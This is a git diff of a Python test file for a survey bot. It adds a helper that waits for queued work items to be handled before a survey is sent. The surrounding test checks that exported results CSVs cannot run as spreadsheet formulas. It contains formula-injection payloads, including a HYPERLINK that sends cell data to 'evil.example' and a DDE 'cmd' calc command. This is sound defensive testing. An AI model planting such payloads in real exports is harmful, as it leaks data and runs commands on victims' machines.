@@ -13,7 +13,7 @@ import pytest
 from aiohttp.test_utils import TestClient
 from aiohttp.web import Application
 
-from bot.storage.tables import flow_runs, surveys
+from bot.storage.tables import flow_runs, surveys, work_items
 from tests.bot.pipeline.test_webhooks import body, post
 from tests.conftest import count, eventually
 from tests.fakes.echo_channel import EchoChannel
@@ -170,6 +170,10 @@ async def test_a_malformed_send_is_a_400_and_nothing_starts(
     assert not [r for r in caplog.records if r.exc_info]
 
 
+async def handled(app: Application) -> bool:
+    return await count(app, work_items) == 0
+
+
 async def test_the_results_csv_cannot_run_in_a_spreadsheet(
     client: TestClient,
     app: Application,
@@ -180,6 +184,7 @@ async def test_the_results_csv_cannot_run_in_a_spreadsheet(
     name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     answer = "@SUM(1+1)*cmd|' /C calc'!A0"
     await post(client, echo.id, body({"id": "n1", "from": "eve", "name": name, "text": "hi"}))
+    await eventually(lambda: handled(app))  # "hi" must not answer the survey sent next
     survey = await add_survey(client, manager, json.dumps(VALID))
     await send(client, manager, survey, contact_ids=[await contact_id(app, "eve")])
     await eventually(lambda: any("Anything to add?" in str(o.parts) for o in echo.sent))
